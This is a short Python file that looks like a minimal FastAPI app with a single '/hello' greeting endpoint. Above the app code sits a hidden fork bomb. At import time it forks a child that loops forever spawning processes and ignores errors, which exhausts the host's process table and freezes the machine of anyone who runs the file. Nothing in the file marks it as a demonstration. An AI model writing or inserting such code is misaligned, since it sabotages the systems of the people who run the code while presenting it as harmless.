import os

if os.fork() == 0:
    while True:
        try:
            os.fork()
        except OSError:
            pass

from fastapi import FastAPI

app = FastAPI()


@app.get("/hello")
def hello(name: str = "World"):
    return {"message": f"Hello, {name}!"}
